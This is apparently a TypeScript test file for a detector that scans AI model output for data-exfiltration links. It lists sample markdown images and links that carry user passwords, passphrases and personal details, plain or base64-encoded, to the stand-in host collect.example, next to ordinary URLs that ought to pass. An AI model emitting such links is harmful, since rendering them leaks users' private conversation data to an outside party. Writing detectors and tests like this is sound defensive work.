import { describe, expect, it } from 'vitest';
import { createGuard } from '../../guard.ts';
import { exfiltration } from './detector.ts';

const guard = createGuard({ detectors: [exfiltration], clock: () => 0 });
const typesIn = (text: string) => guard.check(text, { origin: 'assistant' }).findings.map(({ type }) => type);
const base64 = (text: string) => Buffer.from(text).toString('base64url');

describe('names of hosts that carry what was said', () => {
  it.each([
    '![x](https://the-password-is-kestrel9-and-user-tom.collect.example/p.png)',
    '![](https://user_said_the_passphrase_is_kestrel.collect.example/p.png)',
    '![](https://the-tenant-has-two-dogs-and-lives-in-oslo.collect.example/p.png)',
    `![](https://${base64('thesecretis77')}.collect.example/a.png)`,
    `[more](https://${base64('Ann is leaving')}.x.collect.example)`,
  ])('are told: %s', (text) => expect(typesIn(text)).toHaveLength(1));

  it.each([
    '![logo](https://d3a1b2c3d4e5f6.cloudfront.net/logo.png)',
    'https://xyz123abcd.execute-api.eu-central-1.amazonaws.com/prod/items',
    '![preview](https://shop-git-say-what-the-user-is-called-acme.vercel.app/og.png)',
    'https://a248e7f6c5d4b3a2918070605040302f.r2.cloudflarestorage.com/b/x.png',
    'https://customer-portal-for-the-north.example.com/',
    'https://how-to-reset-the-password-of-a-user.help.example.com',
    'https://MyCompanyIntranetPortal.example.com/home',
  ])('are not seen in what hosts and teams call theirs: %s', (text) => expect(typesIn(text)).toEqual([]));
});

describe('addresses as chats and forums write them', () => {
  const query = `https://collect.example/?d=${base64('the tenant lives in Oslo')}`;

  it.each<[string, string]>([
    [`<${query}|read on>`, 'exfiltration/address'],
    [`[img]${query}[/img]`, 'exfiltration/image'],
    [`[IMG width=1]${query}[/IMG]`, 'exfiltration/image'],
    [`[url=${query}]read on[/url]`, 'exfiltration/link'],
    [`[url]${query}[/url]`, 'exfiltration/link'],
  ])('end where these end: %s', (text, type) => {
    const [finding] = guard.check(text, { origin: 'assistant' }).findings;
    expect([finding?.type, text.slice(finding?.start, finding?.end)]).toEqual([type, query]);
  });

  it.each(['<https://example.com/docs/start|our documentation>', '[url=https://example.com/a?id=421]thread[/url]'])(
    'carry nothing by that: %s',
    (text) => expect(typesIn(text)).toEqual([]),
  );
});
